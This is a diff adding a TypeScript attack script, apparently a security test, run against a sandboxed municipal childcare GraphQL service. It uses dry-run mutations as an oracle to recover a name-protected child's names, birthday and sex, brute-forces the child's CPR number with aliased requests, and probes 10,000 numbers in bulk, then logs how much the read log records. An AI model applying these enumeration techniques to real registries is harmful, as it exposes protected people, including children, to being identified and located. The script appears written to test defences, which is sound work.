@@ -1,0 +1,176 @@
+import { startAttacked, type Target } from './target.ts';
+
+const kommune = '740';
+const kilde = 'Pladssystem';
+const enhed = 'G10567';
+
+/** The protected child, whom the attacker knows by id alone. */
+const barn = { fornavn: 'Sigrun', efternavn: 'Mortensen', foedselsdato: '2021-05-06', koen: 'K' };
+const cpr = '6605215234';
+
+/** What is guessed from: common names, with the right ones among them, and every day of six years. */
+const fornavne = [...names('Fornavn', 400), 'Sigrun'];
+const efternavne = [...names('Efternavn', 200), 'Mortensen'];
+const days = Array.from({ length: 366 * 6 }, (_, n) => new Date(Date.UTC(2018, 0, 1 + n)).toISOString().slice(0, 10));
+
+type Asked = (query: string, variables: object) => Promise<Record<string, Payload> | null>;
+interface Payload {
+  changes: { id: string | null; slags: string; action: string; fields: { field: string }[] }[];
+  errors: { code: string }[];
+}
+const told = 'changes { id slags action fields { field } } errors { code }';
+
+/**
+ * Who may write people of a municipality, but not see the protected, tries to find out who a protected child is, from
+ * answers to dry runs: names, sex and birthday with updatePerson, the number with changeCpr, 15 tries in a request, and
+ * which of 10,000 numbers are somebody's with applyTilknytninger.
+ */
+export async function attack(target: Target): Promise<void> {
+  const settings = { SAMPLE: 'small', REGISTER_MODE: 'sandbox', ENVIRONMENT: 'development' };
+  const attacked = await startAttacked(target, settings);
+  try {
+    const as = async (...roles: string[]): Promise<Asked> => {
+      const args = ['token', '--role', ...roles, '--kommune', kommune, '--sub', roles.join()];
+      const token = (await attacked.command(...args)).split('\n').at(-1) ?? '';
+      return asker(attacked.url, token);
+    };
+    const id = await putChild(await as('kommunal', 'navnebeskyttelse'));
+    const attacker = await as('kommunal');
+    const owner = await as('databeskyttelse');
+    const log = () => linesOf(owner, 'person:kommunal');
+    await report('names, sex and birthday by updatePerson', log, () => guessFields(attacker, id));
+    await report('the CPR number by changeCpr, 15 aliases a request', log, () => guessNumber(attacker, id));
+    await report('10,000 numbers by applyTilknytninger', log, () => probeNumbers(attacker));
+  } finally {
+    await attacked.stop();
+  }
+}
+
+interface Outcome {
+  requests: number;
+  guesses: number;
+  found: string;
+}
+
+async function report(what: string, log: () => Promise<number>, run: () => Promise<Outcome>): Promise<void> {
+  const [before, began] = [await log(), performance.now()];
+  const { requests, guesses, found } = await run();
+  const seconds = ((performance.now() - began) / 1000).toFixed(1);
+  const lines = (await log()) - before;
+  console.log(
+    `${what}: ${found}; ${guesses} guesses in ${requests} requests, ${seconds} s, ${lines} lines in the read log`,
+  );
+}
+
+/** Field by field: a guess is right when the answer lists another number of fields than it does for nonsense. */
+async function guessFields(ask: Asked, personId: string): Promise<Outcome> {
+  let requests = 0;
+  const fieldsOf = async (said: object) => {
+    requests++;
+    const query = `mutation ($i: UpdatePersonInput!) { it: updatePerson(input: $i, dryRun: true) { ${told} } }`;
+    const answer = await ask(query, { i: { personId, kilde, ...said } });
+    return JSON.stringify([answer?.it?.changes.map(({ fields }) => fields), answer?.it?.errors]);
+  };
+  const find = async (field: string, nonsense: string, values: readonly string[]) => {
+    const usual = await fieldsOf({ [field]: nonsense });
+    for (const value of values) if ((await fieldsOf({ [field]: value })) !== usual) return value;
+    return null;
+  };
+  const found = {
+    fornavn: await find('fornavn', 'Xyzzy', fornavne),
+    efternavn: await find('efternavn', 'Xyzzy', efternavne),
+    foedselsdato: await find('foedselsdato', '1901-01-01', days),
+    koen: (await fieldsOf({ koen: 'K' })) === (await fieldsOf({ koen: 'M' })) ? null : 'K or M',
+  };
+  const count = Object.values(found).filter((value) => value !== null).length;
+  return { requests, guesses: requests, found: `${count} of 4 fields found` };
+}
+
+/** The right number is the one that would change nothing. */
+async function guessNumber(ask: Asked, personId: string): Promise<Outcome> {
+  const at = 15;
+  const aliases = Array.from({ length: at }, (_, n) => n);
+  const query = `mutation (${aliases.map((n) => `$i${n}: ChangeCprInput!`).join(' ')}) {
+    ${aliases.map((n) => `a${n}: changeCpr(input: $i${n}, dryRun: true) { ${told} }`).join('\n')} }`;
+  let requests = 0;
+  // Born after 2000: the seventh digit is 4 or more.
+  for (let serial = 4000; serial < 10_000; serial += at) {
+    const guesses = aliases.map((n) => `660521${String((serial + n) % 10_000).padStart(4, '0')}`);
+    const inputs = Object.fromEntries(guesses.map((guess, n) => [`i${n}`, { personId, cpr: guess }]));
+    const answer = await ask(query, inputs);
+    requests++;
+    const answers = aliases.map((n) => answer?.[`a${n}`]);
+    const right = answers.findIndex((one) => one?.changes.length === 0 && one.errors.length === 0);
+    if (right >= 0) return { requests, guesses: serial - 4000 + right + 1, found: `found: ${guesses[right] === cpr}` };
+    if (answers.every((one) => one?.errors.some(({ code }) => code === 'CPR_LIMIT')))
+      return { requests, guesses: serial - 4000 + at, found: 'stopped by CPR_LIMIT, not found' };
+  }
+  return { requests, guesses: 6000, found: 'not found' };
+}
+
+/** A person whom the answer has an id of is known. */
+async function probeNumbers(ask: Asked): Promise<Outcome> {
+  const query = `mutation ($rows: [TilknytningRowInput!]!) {
+    it: applyTilknytninger(kilde: "${kilde}", rows: $rows, dryRun: true) { ${told} } }`;
+  let requests = 0;
+  let found = 0;
+  let answered = 0;
+  for (let begin = 0; begin < 10_000; begin += 5000) {
+    const rows = Array.from({ length: 5000 }, (_, n) => ({
+      ekstern: {
+        ...{ enhed, lokalId: `p${begin + n}`, rolle: 'Ekstern' },
+        person: { cpr: `660521${String(begin + n).padStart(4, '0')}`, fornavn: 'Xy', efternavn: 'Zzy' },
+      },
+    }));
+    const answer = await ask(query, { rows });
+    requests++;
+    const changes = answer?.it?.changes ?? [];
+    if (changes.length > 0) answered += 5000;
+    found += changes.filter(({ slags, id }) => slags === 'person' && id !== null).length;
+    found += answer?.it?.errors.some(({ code }) => code === 'CPR_LIMIT') ? 0 : (answer?.it?.errors.length ?? 0);
+  }
+  return { requests, guesses: 10_000, found: `${found} known persons told, ${answered} numbers answered` };
+}
+
+/** Stores the child, as who may see it, and lets the attacker write as its source, where sources have writers. */
+async function putChild(ask: Asked): Promise<string> {
+  const subjekter = '["kommunal", "kommunal,navnebeskyttelse"]';
+  const grant = `mutation { it: setKildeskribenter(input: { kommuneKode: "${kommune}", kilde: "${kilde}", subjekter: ${subjekter} }) { ${told} } }`;
+  await ask(grant, {}).catch(() => null);
+  const gruppe = { enhed, kode: 'stue', gruppetype: 'Hovedgruppe', trin: 'DT', gyldigFra: '2020-01-01' };
+  const tie = { enhed, lokalId: 'B1', rolle: 'Barn', trin: 'DT', hovedgruppe: 'stue' };
+  const alias = { beskyttet: true, aliasFornavn: 'Anna', aliasEfternavn: 'Alias' };
+  const rows = [{ gruppe }, { barn: { ...tie, person: { cpr, ...barn, ...alias } } }];
+  const query = `mutation ($rows: [TilknytningRowInput!]!) {
+    it: applyTilknytninger(kilde: "${kilde}", rows: $rows) { ${told} } }`;
+  const answer = await ask(query, { rows });
+  const id = answer?.it?.changes.find(({ slags }) => slags === 'person')?.id;
+  if (!id) throw new Error(`the child was not stored: ${JSON.stringify(answer)}`);
+  return id;
+}
+
+const asker =
+  (url: string, token: string): Asked =>
+  async (query, variables) => {
+    const response = await fetch(`${url}/graphql`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', accept: 'application/json', authorization: `Bearer ${token}` },
+      body: JSON.stringify({ query, variables }),
+    });
+    const { data, errors } = (await response.json()) as { data: Record<string, Payload> | null; errors?: object[] };
+    if (!data) throw new Error(JSON.stringify(errors));
+    return data;
+  };
+
+/** How many lines of the read log are of somebody, as the data owner is told. */
+async function linesOf(owner: Asked, actor: string): Promise<number> {
+  const query = 'query ($w: LaeselogWhere) { laeselog(where: $w, first: 0) { totalCount } }';
+  const answer = (await owner(query, { w: { actor: { eq: actor } } })) as unknown as {
+    laeselog: { totalCount: number };
+  };
+  return answer.laeselog.totalCount;
+}
+
+function names(stem: string, count: number): string[] {
+  return Array.from({ length: count }, (_, n) => `${stem}${n}`);
+}
